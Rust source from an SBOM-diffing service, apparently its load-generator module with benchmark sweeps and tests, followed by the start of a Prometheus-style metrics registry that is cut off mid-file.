        doc.set("keep_alive", Value::from(self.keep_alive));
        doc.set("wall_ms", Value::from(self.wall_ms));
        doc.set("throughput_rps", Value::from(self.throughput_rps));
        doc.set("baseline_rps", Value::from(BASELINE_RPS));
        doc.set(
            "speedup_vs_baseline",
            Value::from(self.throughput_rps / BASELINE_RPS),
        );
        let (p50, p90, p99, max) = self.latency_us;
        let mut latency = Value::object();
        latency.set("p50_us", Value::from(p50 as i64));
        latency.set("p90_us", Value::from(p90 as i64));
        latency.set("p99_us", Value::from(p99 as i64));
        latency.set("max_us", Value::from(max as i64));
        doc.set("latency", latency);
        let mut histogram = Vec::with_capacity(self.histogram.len());
        let mut cumulative = 0usize;
        for (i, &count) in self.histogram.iter().enumerate() {
            cumulative += count;
            let mut bucket = Value::object();
            let le = HIST_BOUNDS_US
                .get(i)
                .map_or_else(|| "+inf".to_string(), u64::to_string);
            bucket.set("le_us", Value::from(le));
            bucket.set("count", Value::from(count as i64));
            bucket.set("cumulative", Value::from(cumulative as i64));
            histogram.push(bucket);
        }
        doc.set("latency_histogram", Value::Array(histogram));
        let mut statuses = Value::object();
        for (status, count) in &self.status_counts {
            statuses.set(status.to_string(), Value::from(*count as i64));
        }
        doc.set("status_counts", statuses);
        doc.set("non_2xx", Value::from(self.non_2xx() as i64));
        doc.set("cache_hits", Value::from(self.cache_hits as i64));
        doc.set("cache_misses", Value::from(self.cache_misses as i64));
        doc.set(
            "advisories_matched",
            Value::from(self.advisories_matched as i64),
        );
        doc.set(
            "inconsistent_payloads",
            Value::from(self.inconsistent_payloads as i64),
        );
        doc.set(
            "response_digest",
            Value::from(format!("{:016x}", self.response_digest)),
        );
        doc
    }

    /// Serializes the benchmark artifact (`BENCH_service.json`).
    pub fn to_json(&self, jobs: usize, payloads: usize) -> String {
        let mut body = json::to_string_pretty(&self.json_doc(jobs, payloads));
        body.push('\n');
        body
    }
}

/// One cell of the clients × payloads × keep-alive sweep grid.
#[derive(Debug, Clone)]
pub struct SweepCell {
    /// Concurrent clients in this cell.
    pub clients: usize,
    /// Distinct payloads rotated through.
    pub payloads: usize,
    /// Whether connections were reused.
    pub keep_alive: bool,
    /// Requests sent in this cell.
    pub requests: usize,
    /// Cell throughput.
    pub throughput_rps: f64,
    /// Cell latency percentiles in microseconds.
    pub latency_us: (u64, u64, u64, u64),
    /// Non-2xx responses (must be 0 under clean load).
    pub non_2xx: usize,
}

impl SweepCell {
    fn json_doc(&self) -> Value {
        let mut doc = Value::object();
        doc.set("clients", Value::from(self.clients as i64));
        doc.set("payloads", Value::from(self.payloads as i64));
        doc.set("keep_alive", Value::from(self.keep_alive));
        doc.set("requests", Value::from(self.requests as i64));
        doc.set("throughput_rps", Value::from(self.throughput_rps));
        let (p50, p90, p99, max) = self.latency_us;
        doc.set("p50_us", Value::from(p50 as i64));
        doc.set("p90_us", Value::from(p90 as i64));
        doc.set("p99_us", Value::from(p99 as i64));
        doc.set("max_us", Value::from(max as i64));
        doc.set("non_2xx", Value::from(self.non_2xx as i64));
        doc
    }
}

/// Runs the load generator against a fresh in-process server.
///
/// # Errors
///
/// Propagates server-start and benchmark-file I/O errors.
pub fn run(config: &LoadgenConfig) -> std::io::Result<LoadgenSummary> {
    let payloads = if config.impact_only {
        build_impact_payloads(config.seed, config.payloads.max(1))
    } else {
        build_payloads(config.seed, config.payloads.max(1))
    };
    run_with_payloads(config, &payloads)
}

/// Runs the primary bench cell plus a clients × payloads × keep-alive
/// sweep, writing a combined artifact to `config.out` when set. The
/// primary cell uses `config` exactly; sweep cells shrink the request
/// count so the grid stays CI-affordable.
///
/// # Errors
///
/// Propagates server-start and benchmark-file I/O errors.
pub fn run_sweep(config: &LoadgenConfig) -> std::io::Result<(LoadgenSummary, Vec<SweepCell>)> {
    let primary = run(&LoadgenConfig {
        out: None,
        ..config.clone()
    })?;
    let cell_requests = (config.requests / 4).clamp(1, config.requests.max(1));
    let mut cells = Vec::new();
    for &clients in &[1usize, 4, 16] {
        for &payloads in &[4usize, 12] {
            for &keep_alive in &[true, false] {
                let cell = run(&LoadgenConfig {
                    requests: cell_requests,
                    clients,
                    payloads,
                    keep_alive,
                    out: None,
                    ..config.clone()
                })?;
                cells.push(SweepCell {
                    clients,
                    payloads,
                    keep_alive,
                    requests: cell.requests,
                    throughput_rps: cell.throughput_rps,
                    latency_us: cell.latency_us,
                    non_2xx: cell.non_2xx(),
                });
            }
        }
    }
    if let Some(path) = &config.out {
        let mut doc = primary.json_doc(config.jobs, config.payloads);
        doc.set(
            "sweep",
            Value::Array(cells.iter().map(SweepCell::json_doc).collect()),
        );
        let mut body = json::to_string_pretty(&doc);
        body.push('\n');
        std::fs::write(path, body)?;
    }
    Ok((primary, cells))
}

/// Runs the load generator with a caller-supplied payload set against a
/// fresh in-process server. The chaos harness uses this to build payloads
/// once, cleanly, before any fault plan is installed.
///
/// # Errors
///
/// Propagates server-start and benchmark-file I/O errors.
pub fn run_with_payloads(
    config: &LoadgenConfig,
    payloads: &[(String, String)],
) -> std::io::Result<LoadgenSummary> {
    let mut server = Server::start(ServeConfig {
        jobs: config.jobs,
        seed: config.seed,
        ..ServeConfig::default()
    })?;
    let addr = server.addr();

    let started = Instant::now();
    let clients: Vec<usize> = (0..config.clients.max(1)).collect();
    let keep_alive = config.keep_alive;
    let samples: Vec<Vec<Sample>> = sbomdiff_parallel::par_map(clients.len(), &clients, |_, &c| {
        run_client(
            addr,
            c,
            clients.len(),
            config.requests,
            payloads,
            keep_alive,
        )
    });
    let wall = started.elapsed();

    // Scrape cache counters through the public endpoint so the loadgen
    // exercises /metrics too.
    let (_, metrics_text) = http_request(addr, "GET", "/metrics", "").unwrap_or((0, String::new()));
    let cache_hits = scrape(&metrics_text, "sbomdiff_cache_hits_total");
    let cache_misses = scrape(&metrics_text, "sbomdiff_cache_misses_total");
    let worker_panics = scrape(&metrics_text, "sbomdiff_worker_panics_total");
    let degraded = scrape(&metrics_text, "sbomdiff_degraded_total");
    let advisories_matched = scrape_sum(&metrics_text, "sbomdiff_advisories_matched_total{");
    server.shutdown();

    let mut status_counts: BTreeMap<u16, usize> = BTreeMap::new();
    let mut latencies: Vec<u64> = Vec::new();
    let mut per_payload: BTreeMap<usize, u64> = BTreeMap::new();
    let mut inconsistent: std::collections::BTreeSet<usize> = Default::default();
    for sample in samples.iter().flatten() {
        *status_counts.entry(sample.status).or_default() += 1;
        latencies.push(sample.latency_micros);
        match per_payload.get(&sample.payload_idx) {
            None => {
                per_payload.insert(sample.payload_idx, sample.body_hash);
            }
            Some(&seen) if seen != sample.body_hash => {
                inconsistent.insert(sample.payload_idx);
            }
            Some(_) => {}
        }
    }
    latencies.sort_unstable();
    let pct = |p: f64| -> u64 {
        if latencies.is_empty() {
            return 0;
        }
        let idx = ((latencies.len() as f64 - 1.0) * p).round() as usize;
        latencies[idx.min(latencies.len() - 1)]
    };
    let mut histogram = vec![0usize; HIST_BOUNDS_US.len() + 1];
    for &latency in &latencies {
        let bucket = HIST_BOUNDS_US
            .iter()
            .position(|&bound| latency <= bound)
            .unwrap_or(HIST_BOUNDS_US.len());
        histogram[bucket] += 1;
    }
    // Order-independent digest: XOR of per-payload (index, body hash)
    // mixes — identical for any client/worker interleaving.
    let response_digest = per_payload.iter().fold(0u64, |acc, (&idx, &hash)| {
        acc ^ hash
            .wrapping_add(idx as u64)
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
    });

    let total: usize = status_counts.values().sum();
    let summary = LoadgenSummary {
        requests: total,
        clients: clients.len(),
        keep_alive,
        status_counts,
        wall_ms: wall.as_secs_f64() * 1e3,
        throughput_rps: if wall.as_secs_f64() > 0.0 {
            total as f64 / wall.as_secs_f64()
        } else {
            0.0
        },
        latency_us: (
            pct(0.50),
            pct(0.90),
            pct(0.99),
            *latencies.last().unwrap_or(&0),
        ),
        histogram,
        cache_hits,
        cache_misses,
        response_digest,
        inconsistent_payloads: inconsistent.len(),
        worker_panics,
        degraded,
        advisories_matched,
    };
    if let Some(path) = &config.out {
        std::fs::write(path, summary.to_json(config.jobs, config.payloads))?;
    }
    Ok(summary)
}

/// Builds the rotating payload set: analyze requests over synthetic corpus
/// repositories, plus diff and impact requests derived from their SBOMs.
pub fn build_payloads(seed: u64, count: usize) -> Vec<(String, String)> {
    let registries = Registries::generate(seed);
    let corpus = Corpus::build_with_jobs(
        &registries,
        &CorpusConfig {
            repos_per_language: count.div_ceil(9).max(1),
            seed,
        },
        1,
    );
    let repos: Vec<_> = corpus.iter().flat_map(|(_, repos)| repos).collect();
    let tools = sbomdiff_generators::studied_tools(&registries, 0.0);
    let mut payloads = Vec::with_capacity(count);
    for i in 0..count {
        let repo = repos[i % repos.len()];
        let endpoint = i % 3;
        match endpoint {
            0 => {
                let mut files = Value::object();
                for (path, text) in repo.text_files() {
                    files.set(path, Value::from(text));
                }
                let mut doc = Value::object();
                doc.set("name", Value::from(repo.name()));
                doc.set("seed", Value::from(seed as i64));
                doc.set("files", files);
                payloads.push(("/v1/analyze".to_string(), json::to_string(&doc)));
            }
            1 => {
                use sbomdiff_generators::SbomGenerator;
                let a = tools[0].generate(repo);
                let b = tools[3].generate(repo);
                let mut doc = Value::object();
                doc.set("a", Value::from(SbomFormat::CycloneDx.serialize(&a)));
                doc.set("b", Value::from(SbomFormat::Spdx.serialize(&b)));
                payloads.push(("/v1/diff".to_string(), json::to_string(&doc)));
            }
            _ => {
                use sbomdiff_generators::SbomGenerator;
                let sbom = tools[1].generate(repo);
                let mut doc = Value::object();
                doc.set("sbom", Value::from(SbomFormat::CycloneDx.serialize(&sbom)));
                doc.set("seed", Value::from(seed as i64));
                doc.set("advisory_seed", Value::from(1i64));
                doc.set("vulnerable_share", Value::from(0.3));
                payloads.push(("/v1/impact".to_string(), json::to_string(&doc)));
            }
        }
    }
    payloads
}

/// Builds batched `POST /v1/impact` payloads: per repository, one batch of
/// the best-practice SBOM (document 0, hence the shared ground truth)
/// followed by all four studied tool profiles — the service-side version of
/// the `experiments vuln` divergence run. Repeated payloads across clients
/// hit the response cache, and repeated packages within a batch hit the
/// enrichment cache.
pub fn build_impact_payloads(seed: u64, count: usize) -> Vec<(String, String)> {
    use sbomdiff_generators::{BestPracticeGenerator, SbomGenerator};
    let registries = Registries::generate(seed);
    let corpus = Corpus::build_with_jobs(
        &registries,
        &CorpusConfig {
            repos_per_language: count.div_ceil(9).max(1),
            seed,
        },
        1,
    );
    let repos: Vec<_> = corpus.iter().flat_map(|(_, repos)| repos).collect();
    let tools = sbomdiff_generators::studied_tools(&registries, 0.0);
    let best = BestPracticeGenerator::new(&registries);
    let mut payloads = Vec::with_capacity(count);
    for i in 0..count {
        let repo = repos[i % repos.len()];
        let mut docs = Vec::with_capacity(tools.len() + 1);
        docs.push(Value::from(
            SbomFormat::CycloneDx.serialize(&best.generate(repo)),
        ));
        for tool in &tools {
            docs.push(Value::from(
                SbomFormat::CycloneDx.serialize(&tool.generate(repo)),
            ));
        }
        let mut doc = Value::object();
        doc.set("sboms", Value::Array(docs));
        doc.set("seed", Value::from(seed as i64));
        doc.set("advisory_seed", Value::from(1i64));
        doc.set("vulnerable_share", Value::from(0.3));
        payloads.push(("/v1/impact".to_string(), json::to_string(&doc)));
    }
    payloads
}

/// A keep-alive client connection: one socket plus a response read buffer
/// (responses are `Content-Length`-framed; leftovers stay buffered for the
/// next response).
struct ClientConn {
    stream: TcpStream,
    buf: Vec<u8>,
    pos: usize,
}

impl ClientConn {
    fn connect(addr: SocketAddr) -> std::io::Result<ClientConn> {
        let stream = TcpStream::connect(addr)?;
        stream.set_read_timeout(Some(std::time::Duration::from_secs(30)))?;
        stream.set_nodelay(true)?;
        Ok(ClientConn {
            stream,
            buf: Vec::new(),
            pos: 0,
        })
    }

    /// Sends one request and reads its framed response; returns
    /// `(status, body, server_will_close)`.
    fn round_trip(&mut self, path: &str, body: &str) -> std::io::Result<(u16, String, bool)> {
        let raw = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        self.stream.write_all(raw.as_bytes())?;
        self.read_response()
    }

    fn read_response(&mut self) -> std::io::Result<(u16, String, bool)> {
        let head_end = loop {
            if let Some(at) = find_subslice(&self.buf[self.pos..], b"\r\n\r\n") {
                break self.pos + at + 4;
            }
            self.fill()?;
        };
        let head = String::from_utf8_lossy(&self.buf[self.pos..head_end]).into_owned();
        let status: u16 = head
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .ok_or(std::io::ErrorKind::InvalidData)?;
        // Header names are case-insensitive (RFC 9112): match accordingly.
        let mut length: Option<usize> = None;
        let mut close = false;
        for line in head.lines().skip(1) {
            let Some((name, value)) = line.split_once(':') else {
                continue;
            };
            if name.trim().eq_ignore_ascii_case("content-length") {
                length = value.trim().parse().ok();
            } else if name.trim().eq_ignore_ascii_case("connection")
                && value.trim().eq_ignore_ascii_case("close")
            {
                close = true;
            }
        }
        let length = length.ok_or(std::io::ErrorKind::InvalidData)?;
        while self.buf.len() - head_end < length {
            self.fill()?;
        }
        let body = String::from_utf8_lossy(&self.buf[head_end..head_end + length]).into_owned();
        self.pos = head_end + length;
        if self.pos == self.buf.len() {
            self.buf.clear();
            self.pos = 0;
        }
        Ok((status, body, close))
    }

    fn fill(&mut self) -> std::io::Result<()> {
        let old_len = self.buf.len();
        self.buf.resize(old_len + 16 * 1024, 0);
        match self.stream.read(&mut self.buf[old_len..]) {
            Ok(0) => {
                self.buf.truncate(old_len);
                Err(std::io::ErrorKind::UnexpectedEof.into())
            }
            Ok(n) => {
                self.buf.truncate(old_len + n);
                Ok(())
            }
            Err(e) => {
                self.buf.truncate(old_len);
                Err(e)
            }
        }
    }
}

fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}

fn run_client(
    addr: SocketAddr,
    client: usize,
    clients: usize,
    total_requests: usize,
    payloads: &[(String, String)],
    keep_alive: bool,
) -> Vec<Sample> {
    let mut samples = Vec::new();
    let mut conn: Option<ClientConn> = None;
    let mut request_no = client;
    while request_no < total_requests {
        let payload_idx = request_no % payloads.len();
        let (path, body) = &payloads[payload_idx];
        let started = Instant::now();
        // A transport failure is counted as status 0.
        let (status, response_body) = if keep_alive {
            keep_alive_request(&mut conn, addr, path, body)
        } else {
            http_request(addr, "POST", path, body).unwrap_or_default()
        };
        samples.push(Sample {
            payload_idx,
            status,
            latency_micros: started.elapsed().as_micros() as u64,
            body_hash: fnv64(response_body.as_bytes()),
        });
        request_no += clients;
    }
    samples
}

/// One request over the client's persistent connection, reconnecting once
/// on failure (the server may have idle-closed between requests).
fn keep_alive_request(
    conn: &mut Option<ClientConn>,
    addr: SocketAddr,
    path: &str,
    body: &str,
) -> (u16, String) {
    for attempt in 0..2 {
        if conn.is_none() {
            match ClientConn::connect(addr) {
                Ok(fresh) => *conn = Some(fresh),
                Err(_) => return (0, String::new()),
            }
        }
        let established = conn.as_mut().expect("connection just ensured");
        match established.round_trip(path, body) {
            Ok((status, response_body, close)) => {
                if close {
                    *conn = None;
                }
                return (status, response_body);
            }
            Err(_) => {
                *conn = None;
                if attempt == 1 {
                    return (0, String::new());
                }
            }
        }
    }
    (0, String::new())
}

/// One HTTP request over a fresh connection; returns (status, body).
pub fn http_request(
    addr: SocketAddr,
    method: &str,
    path: &str,
    body: &str,
) -> std::io::Result<(u16, String)> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(std::time::Duration::from_secs(30)))?;
    let raw = format!(
        "{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(raw.as_bytes())?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    Ok((status, body))
}

fn scrape(metrics_text: &str, name: &str) -> u64 {
    metrics_text
        .lines()
        .find(|line| line.starts_with(name) && !line.starts_with('#'))
        .and_then(|line| line.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

/// Sums every sample of a labeled counter family (`prefix` includes the
/// opening `{`, so bare counters sharing the name prefix don't match).
fn scrape_sum(metrics_text: &str, prefix: &str) -> u64 {
    metrics_text
        .lines()
        .filter(|line| line.starts_with(prefix))
        .filter_map(|line| line.rsplit(' ').next())
        .filter_map(|v| v.parse::<u64>().ok())
        .sum()
}

fn fnv64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_set_is_deterministic_and_mixed() {
        let a = build_payloads(7, 9);
        let b = build_payloads(7, 9);
        assert_eq!(a, b);
        assert_eq!(a.len(), 9);
        let endpoints: std::collections::BTreeSet<_> =
            a.iter().map(|(path, _)| path.as_str()).collect();
        assert!(endpoints.contains("/v1/analyze"));
        assert!(endpoints.contains("/v1/diff"));
        assert!(endpoints.contains("/v1/impact"));
        // Every payload body is valid JSON.
        for (_, body) in &a {
            assert!(json::parse(body).is_ok());
        }
    }

    #[test]
    fn scrape_parses_counter_lines() {
        let text = "# TYPE x counter\nsbomdiff_cache_hits_total 42\nother 1\n";
        assert_eq!(scrape(text, "sbomdiff_cache_hits_total"), 42);
        assert_eq!(scrape(text, "missing"), 0);
    }

    #[test]
    fn smoke_run_is_clean() {
        let summary = run(&LoadgenConfig {
            requests: 36,
            clients: 4,
            payloads: 6,
            jobs: 2,
            seed: 11,
            keep_alive: true,
            impact_only: false,
            out: None,
        })
        .expect("loadgen runs");
        assert_eq!(summary.requests, 36);
        assert_eq!(summary.non_2xx(), 0, "{:?}", summary.status_counts);
        assert_eq!(summary.inconsistent_payloads, 0);
        assert!(summary.cache_hits > 0);
        assert!(summary.ok(), "{}", summary.report());
        assert_eq!(summary.histogram.iter().sum::<usize>(), 36);
    }

    #[test]
    fn impact_payloads_are_batched_and_deterministic() {
        let a = build_impact_payloads(7, 4);
        let b = build_impact_payloads(7, 4);
        assert_eq!(a, b);
        assert_eq!(a.len(), 4);
        for (path, body) in &a {
            assert_eq!(path, "/v1/impact");
            let doc = json::parse(body).unwrap();
            let sboms = doc.get("sboms").and_then(Value::as_array).unwrap();
            assert_eq!(sboms.len(), 5, "best-practice truth + four profiles");
        }
    }

    #[test]
    fn impact_smoke_run_is_clean() {
        let summary = run(&LoadgenConfig {
            requests: 24,
            clients: 3,
            payloads: 4,
            jobs: 2,
            seed: 11,
            keep_alive: true,
            impact_only: true,
            out: None,
        })
        .expect("impact loadgen runs");
        assert_eq!(summary.non_2xx(), 0, "{:?}", summary.status_counts);
        assert_eq!(summary.inconsistent_payloads, 0);
        assert!(summary.cache_hits > 0, "repeated batches hit the cache");
        assert!(
            summary.advisories_matched > 0,
            "per-severity counters populated: {}",
            summary.report()
        );
    }

    #[test]
    fn scrape_sum_totals_labeled_family() {
        let text = "x_total{severity=\"low\"} 2\nx_total{severity=\"high\"} 3\nx_other 9\n";
        assert_eq!(scrape_sum(text, "x_total{"), 5);
    }

    #[test]
    fn digest_is_stable_across_jobs() {
        let base = LoadgenConfig {
            requests: 24,
            clients: 3,
            payloads: 6,
            seed: 13,
            keep_alive: true,
            impact_only: false,
            out: None,
            jobs: 1,
        };
        let a = run(&base).unwrap();
        let b = run(&LoadgenConfig { jobs: 4, ..base }).unwrap();
        assert_eq!(a.response_digest, b.response_digest);
        assert_eq!(a.inconsistent_payloads + b.inconsistent_payloads, 0);
    }

    #[test]
    fn digest_is_independent_of_keep_alive() {
        // The digest covers bodies only, so reconnect-per-request and
        // keep-alive runs of the same cell must agree byte-for-byte.
        let base = LoadgenConfig {
            requests: 18,
            clients: 3,
            payloads: 6,
            seed: 13,
            keep_alive: true,
            impact_only: false,
            out: None,
            jobs: 2,
        };
        let a = run(&base).unwrap();
        let b = run(&LoadgenConfig {
            keep_alive: false,
            ..base
        })
        .unwrap();
        assert_eq!(a.response_digest, b.response_digest);
        assert_eq!(a.non_2xx() + b.non_2xx(), 0);
    }
}

//! Service metrics registry rendered at `GET /metrics`.
//!
//! Lock-free atomic counters and fixed-bucket latency histograms, rendered
//! in the Prometheus text exposition format. Everything is counted at the
//! point where a response is written, so the numbers include cache hits,
//! rejected (429) and timed-out (503) requests.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::Duration;

use sbomdiff_matching::MatchTier;
use sbomdiff_sbomfmt::ingest::DocFormat;
use sbomdiff_types::DiagClass;
use sbomdiff_vuln::Severity;

/// The endpoints the service distinguishes in its metrics.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Endpoint {
    /// `POST /v1/analyze`.
    Analyze,
    /// `POST /v1/diff`.
    Diff,
    /// `POST /v1/impact`.
    Impact,
    /// `POST /v1/batch`.
    Batch,
    /// `GET /healthz`.
    Healthz,
    /// `GET /metrics`.
    Metrics,
    /// Anything else (404s, bad methods, parse failures).
    Other,
}

impl Endpoint {
    /// All endpoints, in rendering order.
    pub const ALL: [Endpoint; 7] = [
        Endpoint::Analyze,
        Endpoint::Diff,
        Endpoint::Impact,
        Endpoint::Batch,
        Endpoint::Healthz,
        Endpoint::Metrics,
        Endpoint::Other,
    ];

    /// Classifies a request path.
    pub fn classify(path: &str) -> Endpoint {
        match path {
            "/v1/analyze" => Endpoint::Analyze,
            "/v1/diff" => Endpoint::Diff,
            "/v1/impact" => Endpoint::Impact,
            "/v1/batch" => Endpoint::Batch,
            "/healthz" => Endpoint::Healthz,
            "/metrics" => Endpoint::Metrics,
            _ => Endpoint::Other,
        }
    }

    /// The `endpoint` label value.
    pub fn label(self) -> &'static str {
        match self {
            Endpoint::Analyze => "analyze",
            Endpoint::Diff => "diff",
            Endpoint::Impact => "impact",
            Endpoint::Batch => "batch",
            Endpoint::Healthz => "healthz",
            Endpoint::Metrics => "metrics",
            Endpoint::Other => "other",
        }
    }

    fn index(self) -> usize {
        match self {
            Endpoint::Analyze => 0,
            Endpoint::Diff => 1,
            Endpoint::Impact => 2,
            Endpoint::Batch => 3,
            Endpoint::Healthz => 4,
            Endpoint::Metrics => 5,
            Endpoint::Other => 6,
        }
    }
}

/// The phase a connection was in when it timed out — the label set of
/// `sbomdiff_timeouts_total{phase}` (DESIGN.md §18 timeout taxonomy).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TimeoutPhase {
    /// Mid request line / headers → answered `408`.
    Header,
    /// Head complete, body bytes overdue → answered `408`.
    Body,
    /// Idle keep-alive connection between requests → closed silently
    /// (nothing was owed, so no response is written).
    Idle,
}

impl TimeoutPhase {
    /// All phases, in rendering order.
    pub const ALL: [TimeoutPhase; 3] =
        [TimeoutPhase::Header, TimeoutPhase::Body, TimeoutPhase::Idle];

    /// The `phase` label value.
    pub fn label(self) -> &'static str {
        match self {
            TimeoutPhase::Header => "header",
            TimeoutPhase::Body => "body",
            TimeoutPhase::Idle => "idle",
        }
    }

    fn index(self) -> usize {
        match self {
            TimeoutPhase::Header => 0,
            TimeoutPhase::Body => 1,
            TimeoutPhase::Idle => 2,
        }
    }
}

/// Upper bounds of the latency histogram buckets, in seconds.
pub const LATENCY_BUCKETS: [f64; 11] = [
    0.000_25, 0.000_5, 0.001, 0.002_5, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 1.0,
];

#[derive(Default)]
struct EndpointStats {
    requests: AtomicU64,
    responses_2xx: AtomicU64,
    responses_4xx: AtomicU64,
    responses_5xx: AtomicU64,
    // One slot per LATENCY_BUCKETS bound plus the +Inf overflow slot.
    latency_buckets: [AtomicU64; LATENCY_BUCKETS.len() + 1],
    latency_sum_micros: AtomicU64,
}

/// The registry: per-endpoint stats plus service-wide counters.
#[derive(Default)]
pub struct Metrics {
    endpoints: [EndpointStats; Endpoint::ALL.len()],
    queue_rejected: AtomicU64,
    deadline_timeouts: AtomicU64,
    // Connection-level timeouts by phase (slow header/body → 408, idle
    // keep-alive → silent close), indexed by TimeoutPhase::index().
    phase_timeouts: [AtomicU64; TimeoutPhase::ALL.len()],
    // Analyses that completed in degraded mode (partial SBOM after a
    // caught fault) and panics caught at the worker-pool boundary.
    degraded: AtomicU64,
    worker_panics: AtomicU64,
    // One counter per DiagClass, indexed by DiagClass::index().
    diagnostics: [AtomicU64; DiagClass::ALL.len()],
    // External SBOM ingestion: total bytes consumed, and documents per
    // detected format (trailing slot: unrecognizable documents).
    ingest_bytes: AtomicU64,
    ingest_documents: [AtomicU64; DocFormat::ALL.len() + 1],
    // Component pairs matched by tiered `/v1/diff` requests, per tier,
    // indexed by MatchTier::index().
    match_pairs: [AtomicU64; MatchTier::COUNT],
    // Advisories raised by `/v1/impact` scans (detected + false alarms),
    // per severity, indexed by Severity::index().
    advisories_matched: [AtomicU64; Severity::ALL.len()],
    // Latest quality score per (profile, check) observed by opt-in
    // `/v1/analyze` quality scoring, stored as f64 bits. A BTreeMap keeps
    // the rendering order deterministic.
    quality_scores: Mutex<BTreeMap<(String, String), u64>>,
}

/// Escapes a label value for the Prometheus text exposition format:
/// inside the double-quoted value, backslash, double-quote and newline
/// must be written as `\\`, `\"` and `\n`.
pub fn escape_label_value(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    for c in v.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            _ => out.push(c),
        }
    }
    out
}

/// Escapes a `# HELP` text: backslash and newline must be written as
/// `\\` and `\n` (quotes are not escaped in help text).
fn escape_help(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    for c in v.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            _ => out.push(c),
        }
    }
    out
}

/// Writes the `# HELP` / `# TYPE` header pair for a metric family.
fn family(out: &mut String, name: &str, kind: &str, help: &str) {
    out.push_str(&format!(
        "# HELP {name} {}\n# TYPE {name} {kind}\n",
        escape_help(help)
    ));
}

/// Counter slot for an ingest format (`None`: the unknown slot).
fn ingest_index(format: Option<DocFormat>) -> usize {
    format
        .and_then(|f| DocFormat::ALL.iter().position(|&g| g == f))
        .unwrap_or(DocFormat::ALL.len())
}

impl Metrics {
    /// A zeroed registry.
    pub fn new() -> Self {
        Metrics::default()
    }

    /// Records one finished request: its endpoint, response status, and
    /// total latency from accept to response-written.
    pub fn record(&self, endpoint: Endpoint, status: u16, latency: Duration) {
        let stats = &self.endpoints[endpoint.index()];
        stats.requests.fetch_add(1, Ordering::Relaxed);
        let class = match status {
            200..=299 => &stats.responses_2xx,
            400..=499 => &stats.responses_4xx,
            _ => &stats.responses_5xx,
        };
        class.fetch_add(1, Ordering::Relaxed);
        let secs = latency.as_secs_f64();
        let bucket = LATENCY_BUCKETS
            .iter()
            .position(|&bound| secs <= bound)
            .unwrap_or(LATENCY_BUCKETS.len());
        stats.latency_buckets[bucket].fetch_add(1, Ordering::Relaxed);
        stats
            .latency_sum_micros
            .fetch_add(latency.as_micros() as u64, Ordering::Relaxed);
    }

    /// Counts one request shed by admission control (429).
    pub fn record_rejected(&self) {
        self.queue_rejected.fetch_add(1, Ordering::Relaxed);
    }

    /// Counts one request that exceeded its deadline in the queue (503).
    pub fn record_timeout(&self) {
        self.deadline_timeouts.fetch_add(1, Ordering::Relaxed);
    }

    /// Counts one connection-level timeout in `phase` (slow-header and
    /// slow-body timeouts are answered 408; idle closes are silent).
    pub fn record_timeout_phase(&self, phase: TimeoutPhase) {
        self.phase_timeouts[phase.index()].fetch_add(1, Ordering::Relaxed);
    }

    /// Connection-level timeouts in `phase` so far.
    pub fn timeouts_phase(&self, phase: TimeoutPhase) -> u64 {
        self.phase_timeouts[phase.index()].load(Ordering::Relaxed)
    }

    /// Counts one analysis that completed in degraded mode.
    pub fn record_degraded(&self) {
        self.degraded.fetch_add(1, Ordering::Relaxed);
    }

    /// Degraded analyses so far.
    pub fn degraded(&self) -> u64 {
        self.degraded.load(Ordering::Relaxed)
    }

    /// Counts one panic caught at the worker-pool boundary.
    pub fn record_worker_panic(&self) {
        self.worker_panics.fetch_add(1, Ordering::Relaxed);
    }

    /// Worker-boundary panics so far.
    pub fn worker_panics(&self) -> u64 {
        self.worker_panics.load(Ordering::Relaxed)
    }

    /// Counts one classified diagnostic surfaced in a response.
    pub fn record_diagnostic(&self, class: DiagClass) {
        self.diagnostics[class.index()].fetch_add(1, Ordering::Relaxed);
    }

    /// Diagnostics of `class` surfaced so far.
    pub fn diagnostics(&self, class: DiagClass) -> u64 {
        self.diagnostics[class.index()].load(Ordering::Relaxed)
    }

    /// Diagnostics surfaced so far across all classes.
    pub fn total_diagnostics(&self) -> u64 {
        self.diagnostics
            .iter()
            .map(|c| c.load(Ordering::Relaxed))
            .sum()
    }

    /// Records one externally supplied SBOM document ingested by
    /// `/v1/diff`: the bytes consumed and the detected format (`None` when
    /// the document was not recognizable).
    pub fn record_ingest(&self, format: Option<DocFormat>, bytes: u64) {
        self.ingest_bytes.fetch_add(bytes, Ordering::Relaxed);
        self.ingest_documents[ingest_index(format)].fetch_add(1, Ordering::Relaxed);
    }

    /// Records `pairs` component pairs matched at `tier` by a tiered
    /// `/v1/diff` request.
    pub fn record_matches(&self, tier: MatchTier, pairs: u64) {
        self.match_pairs[tier.index()].fetch_add(pairs, Ordering::Relaxed);
    }

    /// Component pairs matched at `tier` so far.
